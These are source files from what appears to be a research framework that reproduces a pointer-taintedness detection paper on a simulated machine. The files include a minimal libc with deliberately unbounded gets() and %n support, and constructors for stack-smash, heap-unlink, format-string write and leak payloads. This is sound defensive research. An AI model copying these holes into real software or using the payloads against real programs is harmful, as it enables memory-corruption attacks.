            if (d < 10) {
                digits[n] = '0' + d;
            } else {
                digits[n] = 'a' + (d - 10);
            }
            value = (value >> 4) & 0xfffffff;
            n++;
        }
    } else {
        while (value != 0) {
            q = udiv10(value);
            d = value - q * 10;
            digits[n] = '0' + d;
            value = q;
            n++;
        }
    }
    for (i = 0; i < n; i++) {
        dst[i] = digits[n - 1 - i];
    }
    return n;
}

int format_int(char *dst, int value, int base) {
    if (value < 0) {
        dst[0] = '-';
        return 1 + format_uint(dst + 1, -value, base);
    }
    return format_uint(dst, value, base);
}

/*
 * The formatting engine.  fmt sweeps the format string; ap scans the
 * argument words.  Supported directives: %d %u %x %c %s %n %%.
 */
int vformat(char *out, char *fmt, int *ap) {
    int count;
    int ch;
    int *ip;
    char *sp;
    count = 0;
    while (*fmt) {
        ch = *fmt;
        if (ch != '%') {
            out[count] = ch;
            count++;
            fmt++;
            continue;
        }
        fmt++;
        ch = *fmt;
        fmt++;
        if (ch == 'd') {
            count = count + format_int(out + count, *ap, 10);
            ap = ap + 1;
        } else if (ch == 'u') {
            count = count + format_uint(out + count, *ap, 10);
            ap = ap + 1;
        } else if (ch == 'x') {
            count = count + format_uint(out + count, *ap, 16);
            ap = ap + 1;
        } else if (ch == 'c') {
            out[count] = *ap;
            count++;
            ap = ap + 1;
        } else if (ch == 's') {
            sp = *ap;
            ap = ap + 1;
            while (*sp) {
                out[count] = *sp;
                count++;
                sp++;
            }
        } else if (ch == 'n') {
            ip = *ap;
            ap = ap + 1;
            *ip = count;
        } else if (ch == '%') {
            out[count] = '%';
            count++;
        } else if (ch == 0) {
            break;
        } else {
            out[count] = '%';
            count++;
            out[count] = ch;
            count++;
        }
    }
    out[count] = 0;
    return count;
}

int printf(char *fmt, ...) {
    char out[512];
    int n;
    int *ap;
    ap = &fmt;
    n = vformat(out, fmt, ap + 1);
    write(1, out, n);
    return n;
}

int sprintf(char *dst, char *fmt, ...) {
    int *ap;
    ap = &fmt;
    return vformat(dst, fmt, ap + 1);
}

int fdprintf(int fd, char *fmt, ...) {
    char out[512];
    int n;
    int *ap;
    ap = &fmt;
    n = vformat(out, fmt, ap + 1);
    write(fd, out, n);
    return n;
}

/* Send a formatted reply over a socket (servers use this). */
int sockprintf(int fd, char *fmt, ...) {
    char out[512];
    int n;
    int *ap;
    ap = &fmt;
    n = vformat(out, fmt, ap + 1);
    send(fd, out, n);
    return n;
}

/* gets(): read one '\n'-terminated line from stdin, NO bounds check. */
int gets(char *buf) {
    int n;
    int r;
    char one[4];
    n = 0;
    while (1) {
        r = read(0, one, 1);
        if (r < 1) {
            break;
        }
        if (one[0] == 10) {
            break;
        }
        buf[n] = one[0];
        n++;
    }
    buf[n] = 0;
    return n;
}

/*
 * scan_string(): the unbounded scanf("%s", buf) of Figure 2 -- skip
 * leading whitespace, copy until whitespace/EOF, never check length.
 */
int scan_string(char *buf) {
    int n;
    int r;
    char one[4];
    n = 0;
    while (1) {
        r = read(0, one, 1);
        if (r < 1) {
            break;
        }
        if (isspace(one[0])) {
            if (n > 0) {
                break;
            }
            continue;
        }
        buf[n] = one[0];
        n++;
    }
    buf[n] = 0;
    return n;
}

/* Read one line from a socket (up to '\n', bounded). */
int recv_line(int fd, char *buf, int max) {
    int n;
    int r;
    char one[4];
    n = 0;
    while (n < max - 1) {
        r = recv(fd, one, 1);
        if (r < 1) {
            break;
        }
        if (one[0] == 10) {
            break;
        }
        buf[n] = one[0];
        n++;
    }
    buf[n] = 0;
    return n;
}
"""
