"""Hand-written assembly runtime: crt0 and system-call veneers.

The stack-argument ABI (see :mod:`repro.cc.codegen`) means every veneer
finds argument ``i`` at ``4*i($sp)`` on entry, moves the arguments into
``$a0..$a3``, loads the syscall number into ``$v0`` and traps.  The kernel
returns the result in ``$v0``.
"""

from __future__ import annotations

from ..kernel.syscalls import (
    SYS_ACCEPT,
    SYS_BIND,
    SYS_BRK,
    SYS_CLOSE,
    SYS_EXEC,
    SYS_EXIT,
    SYS_GETPID,
    SYS_GETUID,
    SYS_LISTEN,
    SYS_OPEN,
    SYS_READ,
    SYS_RECV,
    SYS_SBRK,
    SYS_SEND,
    SYS_SETUID,
    SYS_SOCKET,
    SYS_WRITE,
)

#: Program entry point: pushes (argc, argv, envp) for ``main`` and exits
#: with its return value.  The kernel pre-loads $a0..$a2 at attach time.
CRT0 = """
.text
_start:
    addiu $sp,$sp,-12
    sw $a2,8($sp)
    sw $a1,4($sp)
    sw $a0,0($sp)
    jal main
    move $a0,$v0
    li $v0,1
    syscall
"""


def _veneer(name: str, number: int, nargs: int) -> str:
    lines = [f"{name}:"]
    for i in range(nargs):
        lines.append(f"    lw $a{i},{4 * i}($sp)")
    lines.append(f"    li $v0,{number}")
    lines.append("    syscall")
    lines.append("    jr $ra")
    return "\n".join(lines)


#: ``(name, syscall number, argument count)`` for every kernel entry point.
_VENEERS = [
    ("exit", SYS_EXIT, 1),
    ("read", SYS_READ, 3),
    ("write", SYS_WRITE, 3),
    ("open", SYS_OPEN, 2),
    ("close", SYS_CLOSE, 1),
    ("getpid", SYS_GETPID, 0),
    ("setuid", SYS_SETUID, 1),
    ("getuid", SYS_GETUID, 0),
    ("brk", SYS_BRK, 1),
    ("sbrk", SYS_SBRK, 1),
    ("exec", SYS_EXEC, 1),
    ("socket", SYS_SOCKET, 3),
    ("bind", SYS_BIND, 2),
    ("listen", SYS_LISTEN, 2),
    ("accept", SYS_ACCEPT, 1),
    ("recv", SYS_RECV, 3),
    ("send", SYS_SEND, 3),
]

#: All syscall veneers as one assembly fragment.
SYSCALL_VENEERS = "\n.text\n" + "\n".join(
    _veneer(name, number, nargs) for name, number, nargs in _VENEERS
) + "\n"
