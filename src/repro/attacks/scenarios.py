"""Attack scenario descriptions shared by tests, examples, and benchmarks.

A scenario bundles a vulnerable program with one attack input and one benign
input, plus the expectations the paper states for it: whether the
pointer-taintedness architecture detects it, whether a control-data-only
baseline (Minos / Secure Program Execution) does, and what the alert should
look like.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Dict, Optional

from ..defenses.policy import (
    ControlDataPolicy,
    DetectionPolicy,
    NullPolicy,
    PointerTaintPolicy,
)
from ..isa.program import Executable
from ..libc.build import build_program
from .replay import RunResult, run_executable

#: Scenario categories.
CONTROL_DATA = "control-data"
NON_CONTROL_DATA = "non-control-data"
FALSE_NEGATIVE = "false-negative"


@dataclass
class AttackScenario:
    """A vulnerable program + attack/benign inputs + expected verdicts."""

    name: str
    category: str
    description: str
    source: str
    #: kwargs for :func:`run_executable` when replaying the attack
    #: (stdin/argv/clients...).  Client objects must be freshly built per
    #: run, so callables are also accepted and invoked lazily.
    attack_input: Dict[str, Any] = field(default_factory=dict)
    benign_input: Dict[str, Any] = field(default_factory=dict)
    #: Expected dereference kind of the paper-policy alert
    #: ("load" | "store" | "jump"), or None when undetected (Table 4).
    expected_alert_kind: Optional[str] = None
    #: Does the control-data-only baseline catch it?
    detected_by_control_data: bool = False
    #: Paper artifact this scenario reproduces (figure/table/section).
    paper_ref: str = ""
    max_instructions: int = 20_000_000
    #: Evidence that an *undetected* attack run actually did its damage
    #: (shell exec'd, flag flipped, secret leaked, wild write landed...).
    #: Defaults to "a tainted pointer was dereferenced or a shell ran".
    compromise_check: Optional[Callable[[RunResult], bool]] = None

    def attack_succeeded(self, result: RunResult) -> bool:
        """Did the (undetected) attack achieve its goal?"""
        if result.detected:
            return False
        if self.compromise_check is not None:
            return self.compromise_check(result)
        if result.compromised:
            return True
        if result.sim is not None:
            return result.sim.stats.tainted_dereferences > 0
        return False

    def build(self, opt_level: int = 0) -> Executable:
        """Compile the vulnerable program (cached by the builder)."""
        return build_program(self.source, opt_level=opt_level)

    def _materialize(self, spec: Dict[str, Any]) -> Dict[str, Any]:
        kwargs = {}
        for key, value in spec.items():
            kwargs[key] = value() if callable(value) else value
        kwargs.setdefault("max_instructions", self.max_instructions)
        return kwargs

    def run_attack(self, policy: DetectionPolicy, **overrides: Any) -> RunResult:
        """Replay the attack under a policy.

        ``overrides`` are forwarded to :func:`run_executable` on top of the
        scenario's own replay kwargs (e.g. ``use_pipeline=True`` to replay
        on the cycle-level engine, ``opt_level=1`` to rebuild with the
        optimizing backend, or ``record_events=...``).
        """
        kwargs = self._materialize(self.attack_input)
        kwargs.update(overrides)
        opt_level = kwargs.pop("opt_level", 0)
        return run_executable(self.build(opt_level), policy, **kwargs)

    def run_benign(self, policy: DetectionPolicy, **overrides: Any) -> RunResult:
        """Run the benign workload under a policy (false-positive check)."""
        kwargs = self._materialize(self.benign_input)
        kwargs.update(overrides)
        opt_level = kwargs.pop("opt_level", 0)
        return run_executable(self.build(opt_level), policy, **kwargs)

    @property
    def detected_by_pointer_taint(self) -> bool:
        return self.expected_alert_kind is not None


#: The three policies every scenario is evaluated against.
POLICY_MATRIX = (
    PointerTaintPolicy(),
    ControlDataPolicy(),
    NullPolicy(),
)
