"""Attack substrate: payload constructors, replay harness, scenarios."""

from .payloads import (
    double_free_args,
    format_leak_payload,
    format_write_payload,
    heap_unlink_payload,
    le32,
    stack_pointer_redirect_payload,
    stack_smash_payload,
)
from .replay import (
    OUTCOME_ALERT,
    OUTCOME_EXIT,
    OUTCOME_FAULT,
    OUTCOME_LIMIT,
    RunResult,
    run_executable,
    run_minic,
)
from .scenarios import (
    AttackScenario,
    CONTROL_DATA,
    FALSE_NEGATIVE,
    NON_CONTROL_DATA,
    POLICY_MATRIX,
)

__all__ = [
    "double_free_args",
    "format_leak_payload",
    "format_write_payload",
    "heap_unlink_payload",
    "le32",
    "stack_pointer_redirect_payload",
    "stack_smash_payload",
    "OUTCOME_ALERT",
    "OUTCOME_EXIT",
    "OUTCOME_FAULT",
    "OUTCOME_LIMIT",
    "RunResult",
    "run_executable",
    "run_minic",
    "AttackScenario",
    "CONTROL_DATA",
    "FALSE_NEGATIVE",
    "NON_CONTROL_DATA",
    "POLICY_MATRIX",
]
