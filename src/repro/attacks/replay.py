"""Attack replay harness: run a program under a policy, observe the verdict.

Each experiment run produces a :class:`RunResult` describing how the process
ended: clean exit, detector alert (the paper's security exception), machine
fault (what a successful corruption often ends in on an unprotected CPU),
or instruction-budget exhaustion.  The result also exposes the kernel's
compromise indicators (programs exec'd, privilege changes) so benchmarks can
report whether an *undetected* attack actually succeeded.

.. deprecated::
    ``run_executable``/``run_minic`` remain as the stable low-level entry
    points, but new code should go through :class:`repro.api.Session`,
    which adds metrics/tracing wiring and the unified result schema on
    top of the same implementation.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, List, Optional, Sequence

from ..builder import build_machine
from ..core.events import EventLog, InstructionRetired
from ..defenses.alerts import Alert, SecurityException
from ..defenses.policy import DetectionPolicy, PointerTaintPolicy
from ..defenses.registry import resolve_defense
from ..cpu.pipeline import Pipeline, PipelineStats
from ..cpu.simulator import ExecutionLimit, Simulator, SimulatorFault
from ..isa.program import Executable
from ..kernel.filesystem import SimFileSystem
from ..kernel.network import ScriptedClient, SimNetwork
from ..kernel.syscalls import Kernel
from ..libc.build import build_program
from ..mem.tainted_memory import MemoryFault

#: Run outcome labels.
OUTCOME_EXIT = "exit"
OUTCOME_ALERT = "alert"
OUTCOME_FAULT = "fault"
OUTCOME_LIMIT = "limit"


@dataclass
class RunResult:
    """Everything observable about one simulated process run."""

    outcome: str
    exit_status: Optional[int] = None
    alert: Optional[Alert] = None
    fault: str = ""
    #: Structured watchdog verdict when ``outcome == "limit"``:
    #: ``{"reason": "instructions" | "wallclock", "instructions": int,
    #: "pc": int}`` (None otherwise).  Services and schedulers branch on
    #: ``limit["reason"]`` instead of parsing the ``fault`` string.
    limit: Optional[dict] = None
    sim: Optional[Simulator] = None
    kernel: Optional[Kernel] = None
    clients: List[ScriptedClient] = field(default_factory=list)
    #: Events recorded during the run (see ``record_events=``), or None.
    events: Optional[EventLog] = None
    #: Cycle-level counters when the pipeline engine ran, else None.
    pstats: Optional[PipelineStats] = None
    #: Metrics-registry dump attached by :class:`repro.api.Session`
    #: (None when the run was not instrumented).
    metrics: Optional[dict] = None

    @property
    def detected(self) -> bool:
        """True when the detector stopped the run with a security alert."""
        return self.outcome == OUTCOME_ALERT

    @property
    def stdout(self) -> str:
        return self.kernel.process.stdout_text if self.kernel else ""

    @property
    def executed_programs(self) -> List[str]:
        """Programs the process exec'd (attacker shells show up here)."""
        return self.kernel.process.executed_programs() if self.kernel else []

    @property
    def trace(self) -> List[int]:
        """PCs of retired instructions, when ``InstructionRetired`` events
        were recorded (empty otherwise -- use ``sim.recent_pcs`` for the
        always-on bounded tail)."""
        if self.events is None:
            return []
        return [e.pc for e in self.events.of(InstructionRetired)]

    @property
    def compromised(self) -> bool:
        """Heuristic success indicator for an *undetected* attack:
        the process exec'd a shell-like program."""
        return any("sh" in path for path in self.executed_programs)

    def describe(self) -> str:
        if self.outcome == OUTCOME_ALERT and self.alert is not None:
            return f"ALERT {self.alert}"
        if self.outcome == OUTCOME_FAULT:
            return f"FAULT {self.fault}"
        if self.outcome == OUTCOME_LIMIT:
            return "LIMIT instruction budget exhausted"
        return f"EXIT status={self.exit_status}"

    def to_json(self) -> dict:
        """Unified result payload (see ``repro.api.validate_result_json``).

        Every result family in the repo -- run, campaign, experiment --
        shares the ``{"kind", "detected", "stats", "metrics"}`` shape so
        all ``--json`` CLI outputs validate against one schema.
        """
        stats: dict = {
            "outcome": self.outcome,
            "exit_status": self.exit_status,
            "alert": str(self.alert) if self.alert is not None else None,
            "fault": self.fault or None,
            "executed_programs": self.executed_programs,
        }
        if self.limit is not None:
            stats["limit"] = dict(self.limit)
        if self.alert is not None and self.alert.provenance:
            stats["provenance"] = [
                label.to_dict() for label in self.alert.provenance
            ]
        if self.sim is not None:
            stats.update(self.sim.stats.summary())
        if self.pstats is not None:
            stats.update(
                cycles=self.pstats.cycles,
                fetch_stalls=self.pstats.fetch_stalls,
                drain_cycles=self.pstats.drain_cycles,
                cpi=round(self.pstats.cpi, 4),
            )
        if self.sim is not None and self.sim.defenses:
            # Present only when a pluggable defense is attached, so
            # default-path result JSON stays byte-identical.
            stats["defenses"] = self.sim.defense_summaries()
        if (
            self.sim is not None
            and self.pstats is None
            and getattr(self.sim, "superblocks_enabled", False)
        ):
            # Fused-tier observability: cache size, build/invalidation
            # counts, and the fraction of fused dispatches served from
            # cache (a dispatch that had to build its block is a miss).
            info = self.sim.superblocks.info()
            hits = info["hits"]
            info["hit_rate"] = (
                round((hits - info["built"]) / hits, 4) if hits else 0.0
            )
            stats["superblocks"] = info
        return {
            "kind": "run",
            "detected": self.detected,
            "outcome": self.outcome,
            "stats": stats,
            "metrics": self.metrics if self.metrics is not None else {},
        }


def run_executable(
    exe: Executable,
    policy: Optional[DetectionPolicy] = None,
    stdin: bytes = b"",
    argv: Optional[Sequence[str]] = None,
    env: Optional[Sequence[str]] = None,
    clients: Optional[Sequence[ScriptedClient]] = None,
    filesystem: Optional[SimFileSystem] = None,
    max_instructions: int = 20_000_000,
    max_seconds: Optional[float] = None,
    use_caches: bool = False,
    use_pipeline: bool = False,
    taint_inputs: bool = True,
    taint_labels: bool = False,
    superblocks: bool = True,
    subscribers: Optional[Sequence] = None,
    record_events: Sequence[type] = (),
    instrument: Optional[Callable[[Simulator], Optional[Callable]]] = None,
    defense=None,
) -> RunResult:
    """Run an executable image under a policy; never raises for outcomes.

    ``subscribers`` is a sequence of ``(event_type, handler)`` pairs wired
    to the machine's event bus before execution; ``record_events`` names
    event types to capture into ``RunResult.events`` (an
    :class:`~repro.core.events.EventLog`).

    ``instrument`` is the observability hook used by
    :class:`repro.api.Session`: it is called with the freshly built
    simulator (before execution) and may return a finalizer that is
    called with the finished :class:`RunResult` (after execution) --
    e.g. to harvest metrics and close trace streams.

    ``max_instructions`` and ``max_seconds`` are enforced through the
    machine-level watchdog, so they bound the run identically under the
    functional and the pipeline engine; either limit ends the run with
    ``OUTCOME_LIMIT``.

    ``defense`` selects a pluggable defense (a registered name such as
    ``"shadow-stack"``/``"pac"``/``"taintedness"``, or a built
    :class:`repro.defenses.Detector`).  When ``policy`` is not given the
    machine runs under the defense's :meth:`default_policy` -- the
    comparators run over an unprotected taint plane so the inline
    taintedness check cannot preempt them.
    """
    detector = resolve_defense(defense)
    if policy is None:
        policy = (
            detector.default_policy()
            if detector is not None
            else PointerTaintPolicy()
        )
    network = SimNetwork()
    client_list = list(clients or [])
    for client in client_list:
        network.connect_client(client)
    sim, kernel = build_machine(
        exe,
        policy,
        argv=argv,
        env=env,
        stdin=stdin,
        filesystem=filesystem,
        network=network,
        taint_inputs=taint_inputs,
        use_caches=use_caches,
        taint_labels=taint_labels,
        superblocks=superblocks,
    )
    if detector is not None:
        sim.attach_defense(detector)
    finalizer = instrument(sim) if instrument is not None else None
    for event_type, handler in subscribers or ():
        sim.events.subscribe(event_type, handler)
    log = (
        EventLog(sim.events, tuple(record_events)) if record_events else None
    )
    result = RunResult(
        outcome=OUTCOME_EXIT, sim=sim, kernel=kernel, clients=client_list,
        events=log,
    )
    sim.arm_watchdog(
        max_instructions=max_instructions, max_seconds=max_seconds
    )
    try:
        if use_pipeline:
            pipeline = Pipeline(sim)
            result.pstats = pipeline.pstats
            result.exit_status = pipeline.run()
        else:
            result.exit_status = sim.run(max_instructions=max_instructions)
    except SecurityException as exc:
        result.outcome = OUTCOME_ALERT
        result.alert = exc.alert
    except (SimulatorFault, MemoryFault) as exc:
        result.outcome = OUTCOME_FAULT
        result.fault = str(exc)
    except ExecutionLimit as exc:
        result.outcome = OUTCOME_LIMIT
        result.fault = str(exc)
        result.limit = {
            "reason": exc.reason,
            "instructions": exc.instructions,
            "pc": exc.pc,
        }
    if finalizer is not None:
        finalizer(result)
    return result


def run_minic(
    source: str,
    policy: Optional[DetectionPolicy] = None,
    opt_level: int = 0,
    **kwargs,
) -> RunResult:
    """Compile a MiniC program against the libc and run it."""
    return run_executable(
        build_program(source, opt_level=opt_level), policy, **kwargs
    )
