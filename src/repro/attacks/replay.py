"""Attack replay harness: run a program under a policy, observe the verdict.

Each experiment run produces a :class:`RunResult` describing how the process
ended: clean exit, detector alert (the paper's security exception), machine
fault (what a successful corruption often ends in on an unprotected CPU),
or instruction-budget exhaustion.  The result also exposes the kernel's
compromise indicators (programs exec'd, privilege changes) so benchmarks can
report whether an *undetected* attack actually succeeded.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Sequence

from ..core.detector import Alert, SecurityException
from ..core.events import EventLog, InstructionRetired
from ..core.policy import DetectionPolicy, PointerTaintPolicy
from ..cpu.pipeline import Pipeline
from ..cpu.simulator import ExecutionLimit, Simulator, SimulatorFault
from ..isa.program import Executable
from ..kernel.filesystem import SimFileSystem
from ..kernel.network import ScriptedClient, SimNetwork
from ..kernel.syscalls import Kernel
from ..libc.build import build_program
from ..mem.tainted_memory import MemoryFault

#: Run outcome labels.
OUTCOME_EXIT = "exit"
OUTCOME_ALERT = "alert"
OUTCOME_FAULT = "fault"
OUTCOME_LIMIT = "limit"


@dataclass
class RunResult:
    """Everything observable about one simulated process run."""

    outcome: str
    exit_status: Optional[int] = None
    alert: Optional[Alert] = None
    fault: str = ""
    sim: Optional[Simulator] = None
    kernel: Optional[Kernel] = None
    clients: List[ScriptedClient] = field(default_factory=list)
    #: Events recorded during the run (see ``record_events=``), or None.
    events: Optional[EventLog] = None

    @property
    def detected(self) -> bool:
        """True when the detector stopped the run with a security alert."""
        return self.outcome == OUTCOME_ALERT

    @property
    def stdout(self) -> str:
        return self.kernel.process.stdout_text if self.kernel else ""

    @property
    def executed_programs(self) -> List[str]:
        """Programs the process exec'd (attacker shells show up here)."""
        return self.kernel.process.executed_programs() if self.kernel else []

    @property
    def trace(self) -> List[int]:
        """PCs of retired instructions, when ``InstructionRetired`` events
        were recorded (empty otherwise -- use ``sim.recent_pcs`` for the
        always-on bounded tail)."""
        if self.events is None:
            return []
        return [e.pc for e in self.events.of(InstructionRetired)]

    @property
    def compromised(self) -> bool:
        """Heuristic success indicator for an *undetected* attack:
        the process exec'd a shell-like program."""
        return any("sh" in path for path in self.executed_programs)

    def describe(self) -> str:
        if self.outcome == OUTCOME_ALERT and self.alert is not None:
            return f"ALERT {self.alert}"
        if self.outcome == OUTCOME_FAULT:
            return f"FAULT {self.fault}"
        if self.outcome == OUTCOME_LIMIT:
            return "LIMIT instruction budget exhausted"
        return f"EXIT status={self.exit_status}"


def run_executable(
    exe: Executable,
    policy: Optional[DetectionPolicy] = None,
    stdin: bytes = b"",
    argv: Optional[Sequence[str]] = None,
    env: Optional[Sequence[str]] = None,
    clients: Optional[Sequence[ScriptedClient]] = None,
    filesystem: Optional[SimFileSystem] = None,
    max_instructions: int = 20_000_000,
    max_seconds: Optional[float] = None,
    use_caches: bool = False,
    use_pipeline: bool = False,
    taint_inputs: bool = True,
    subscribers: Optional[Sequence] = None,
    record_events: Sequence[type] = (),
) -> RunResult:
    """Run an executable image under a policy; never raises for outcomes.

    ``subscribers`` is a sequence of ``(event_type, handler)`` pairs wired
    to the machine's event bus before execution; ``record_events`` names
    event types to capture into ``RunResult.events`` (an
    :class:`~repro.core.events.EventLog`).

    ``max_instructions`` and ``max_seconds`` are enforced through the
    machine-level watchdog, so they bound the run identically under the
    functional and the pipeline engine; either limit ends the run with
    ``OUTCOME_LIMIT``.
    """
    policy = policy if policy is not None else PointerTaintPolicy()
    network = SimNetwork()
    client_list = list(clients or [])
    for client in client_list:
        network.connect_client(client)
    kernel = Kernel(
        argv=argv,
        env=env,
        stdin=stdin,
        filesystem=filesystem,
        network=network,
        taint_inputs=taint_inputs,
    )
    sim = Simulator(
        exe, policy, syscall_handler=kernel, use_caches=use_caches
    )
    kernel.attach(sim)
    for event_type, handler in subscribers or ():
        sim.events.subscribe(event_type, handler)
    log = (
        EventLog(sim.events, tuple(record_events)) if record_events else None
    )
    result = RunResult(
        outcome=OUTCOME_EXIT, sim=sim, kernel=kernel, clients=client_list,
        events=log,
    )
    sim.arm_watchdog(
        max_instructions=max_instructions, max_seconds=max_seconds
    )
    try:
        if use_pipeline:
            result.exit_status = Pipeline(sim).run()
        else:
            result.exit_status = sim.run(max_instructions=max_instructions)
    except SecurityException as exc:
        result.outcome = OUTCOME_ALERT
        result.alert = exc.alert
    except (SimulatorFault, MemoryFault) as exc:
        result.outcome = OUTCOME_FAULT
        result.fault = str(exc)
    except ExecutionLimit as exc:
        result.outcome = OUTCOME_LIMIT
        result.fault = str(exc)
    return result


def run_minic(
    source: str,
    policy: Optional[DetectionPolicy] = None,
    **kwargs,
) -> RunResult:
    """Compile a MiniC program against the libc and run it."""
    return run_executable(build_program(source), policy, **kwargs)
