"""Attack payload constructors.

Each helper builds the byte string an attacker would deliver (over stdin,
argv, or a socket) to trigger one of the paper's exploit classes.  Payload
shapes follow section 3 / Figure 2; offsets are parameterized because they
depend on the victim's frame or chunk layout.
"""

from __future__ import annotations

import struct


def le32(value: int) -> bytes:
    """Little-endian 32-bit encoding of an address or word."""
    return struct.pack("<I", value & 0xFFFFFFFF)


def stack_smash_payload(length: int = 24, filler: bytes = b"a") -> bytes:
    """Classic stack smash: enough filler to roll over saved FP and RA.

    With the default 24 x ``"a"`` (the paper's exp1 input) the tainted
    return address becomes ``0x61616161``.
    """
    return filler * length


def stack_pointer_redirect_payload(
    buffer_length: int, pointer_offset: int, new_pointer: int, tail: bytes
) -> bytes:
    """GHTTPD-style attack: overflow up to a pointer variable and replace it.

    ``pointer_offset`` is the distance from the buffer start to the victim
    pointer; ``tail`` is the data the redirected pointer should point at
    (the attacker appends it right after the payload, at a predictable
    address).
    """
    if pointer_offset < buffer_length:
        raise ValueError("pointer lies inside the buffer being filled")
    return b"A" * pointer_offset + le32(new_pointer) + tail


def heap_unlink_payload(
    user_bytes: int, fd: int = 0x61616161, bk: int = 0x62626262
) -> bytes:
    """Heap overflow into the adjacent free chunk's fd/bk links.

    Layout of the victim allocator (see ``repro.libc.malloc_src``): the
    overflowed chunk's usable area is ``user_bytes``; the next chunk header
    follows immediately: ``[size][fd][bk]``.  The payload overwrites size
    with an odd (free-flagged) value and plants attacker fd/bk.
    """
    overwritten_size = 0x41414141  # odd -> keeps the "free" bit set
    return (
        b"a" * user_bytes
        + le32(overwritten_size)
        + le32(fd)
        + le32(bk)
    )


def format_write_payload(
    target: int, skid_words: int = 0, gap_words: int = 0
) -> bytes:
    """``%n`` format-string write-anything-anywhere payload.

    ``skid_words`` is the number of ``%x`` directives walking the argument
    pointer ``ap`` forward before ``%n`` executes; ``gap_words`` is how many
    words *below* the format buffer ``ap`` starts (the victim's frame gap).
    After the skid, ``ap`` points at buffer offset
    ``4 * (skid_words - gap_words)`` -- the target address is planted there.

    With ``skid_words == gap_words`` (the WU-FTPD case) this produces the
    paper's exact Table 2 shape: ``<addr>%x%x%x%x%x%x%n``.  Directive bytes
    placed after the planted address still execute before ``%n`` -- the
    engine processes the format string left to right.
    """
    offset = 4 * (skid_words - gap_words)
    if offset < 0:
        raise ValueError("ap would stop before the format buffer begins")
    before = min(skid_words, offset // 2)
    prefix = b"%x" * before + b"A" * (offset - 2 * before)
    if len(prefix) != offset:
        raise ValueError("cannot align the pointer slot")
    return prefix + le32(target) + b"%x" * (skid_words - before) + b"%n"


def format_leak_payload(words: int) -> bytes:
    """``%x`` information-leak payload reading ``words`` stack words."""
    return b"%x." * words


def double_free_args(first: str = "123", second: str = "5.6.7.8") -> list:
    """Traceroute-style argv for the double-free attack:
    ``traceroute -g 123 -g 5.6.7.8``."""
    return ["traceroute", "-g", first, "-g", second]
