"""Tainted-pointer dereference detection (section 4.3 of the paper).

Two kinds of instructions can dereference a pointer on the simulated RISC
machine, exactly as on SimpleScalar:

* **load/store** -- the effective-address word is checked after the EX/MEM
  stage;
* **JR/JALR** -- the jump-target register is checked after the ID/EX stage.

When any byte of the checked word is tainted the instruction is marked
malicious; retiring a malicious instruction raises a security exception,
which the simulated OS turns into process termination.

This module used to be ``repro.core.detector`` and ended with an
intentional tail import of the policy module to dodge a documentation
cycle.  In the defenses package the split is clean: alerts live in
:mod:`repro.defenses.alerts`, policies in :mod:`repro.defenses.policy`,
and both import at the top of this file.
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from ..taint.bits import word_mask_is_tainted
from .alerts import Alert
from .base import Detector
from .policy import DetectionPolicy, PointerTaintPolicy

__all__ = ["TaintednessDetector", "TaintednessDefense"]


class TaintednessDetector:
    """Checks dereferenced words against a detection policy and logs alerts.

    The detector is deliberately tiny: hardware-wise it is a single OR gate
    over the four taintedness bits of the dereferenced word plus an opcode
    qualifier.  The *policy* decides which dereference kinds are checked,
    which is how the control-data-only baseline (Minos / Secure Program
    Execution) is expressed.
    """

    def __init__(self, policy: DetectionPolicy) -> None:
        self.policy = policy
        self.alerts: List[Alert] = []

    def check(
        self,
        kind: str,
        pc: int,
        disassembly: str,
        pointer_value: int,
        taint_mask: int,
        instruction_index: int = 0,
        detail: str = "",
        provenance: Tuple = (),
    ) -> Optional[Alert]:
        """Check one dereference; return an :class:`Alert` if it is malicious.

        The caller (pipeline retirement logic or functional simulator) is
        responsible for raising :class:`SecurityException` for the returned
        alert -- detection and exception delivery are separate pipeline
        stages in the paper's design.  ``provenance`` is the pointer's
        resolved label chain when the taint plane runs in label mode.
        """
        if not word_mask_is_tainted(taint_mask):
            return None
        if not self.policy.checks(kind):
            return None
        alert = Alert(
            pc=pc,
            kind=kind,
            disassembly=disassembly,
            pointer_value=pointer_value,
            taint_mask=taint_mask,
            instruction_index=instruction_index,
            detail=detail,
            provenance=provenance,
        )
        self.alerts.append(alert)
        return alert

    def reset(self) -> None:
        """Clear logged alerts (e.g. between benchmark iterations)."""
        self.alerts.clear()


class TaintednessDefense(Detector):
    """The paper's defense behind the pluggable :class:`Detector` interface.

    The hot-path check stays *inline* (every executor binding calls
    ``machine.tainted_dereference`` directly; see
    :meth:`repro.cpu.machine.MachineState.tainted_dereference`), so
    attaching this defense subscribes nothing to the event bus and the
    default taintedness path is bit-identical with or without the
    wrapper.  The wrapper only adapts the machine's inline
    :class:`TaintednessDetector` to the registry/summary surface the
    defense matrix consumes.
    """

    name = "taintedness"

    def __init__(self) -> None:
        self._machine = None
        #: Alert store used until :meth:`attach` hands us a machine.
        self._detached_alerts: list = []

    @property
    def alerts(self):
        machine = self._machine
        if machine is not None:
            return machine.detector.alerts
        return self._detached_alerts

    @property
    def checks(self) -> int:
        machine = self._machine
        return machine.stats.dereference_checks if machine is not None else 0

    def default_policy(self) -> DetectionPolicy:
        return PointerTaintPolicy()

    def reset(self) -> None:
        machine = self._machine
        if machine is not None:
            machine.detector.reset()
        self._detached_alerts.clear()
