"""Alert records and the retirement-time security exception.

Split out of the old ``repro.core.detector`` module so that every defense
implementation (the paper's taintedness detector and the comparator
defenses alike) can import the alert vocabulary without touching policy or
detector code.  :class:`Alert` is shared by all detectors; ``kind`` says
which dereference (or which comparator check) fired.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Tuple

#: Kinds of tainted dereference the taintedness detector distinguishes.
KIND_LOAD = "load"
KIND_STORE = "store"
KIND_JUMP = "jump"
#: Tainted write into programmer-annotated never-tainted data (the
#: section 5.3 extension; see :mod:`repro.core.annotations`).
KIND_ANNOTATION = "annotation"
#: Comparator-defense kinds: a shadow-stack return-address mismatch and a
#: PAC pointer-authentication failure (see :mod:`repro.defenses`).
KIND_RETURN = "return"
KIND_PAC = "pac"

#: Kinds that dereference *data* pointers (checked after EX/MEM).
DATA_KINDS = frozenset({KIND_LOAD, KIND_STORE})

#: Kinds that dereference *code* pointers (checked after ID/EX).
CONTROL_KINDS = frozenset({KIND_JUMP})


@dataclass(frozen=True)
class Alert:
    """A malicious instruction caught by a detector.

